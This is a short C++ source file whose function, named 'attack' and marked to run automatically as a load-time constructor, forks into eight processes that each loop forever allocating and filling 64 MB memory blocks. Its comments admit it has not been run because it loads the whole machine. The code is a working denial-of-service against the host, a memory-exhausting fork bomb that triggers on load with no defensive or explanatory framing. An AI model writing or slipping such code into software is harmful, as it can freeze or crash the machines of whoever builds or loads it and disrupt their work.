// Uses memory in many processes at once.
// not tried: it loads the whole machine, so it waits for one that does nothing else
#include <unistd.h>
#include <cstring>
#include <new>

namespace {
[[gnu::constructor]] void attack() {
  for (int i = 0; i < 3; ++i) (void)fork();
  for (;;) {
    constexpr std::size_t kPiece = std::size_t{64} << 20;
    if (char* piece = new (std::nothrow) char[kPiece]) std::memset(piece, 1, kPiece);
  }
}
}  // namespace
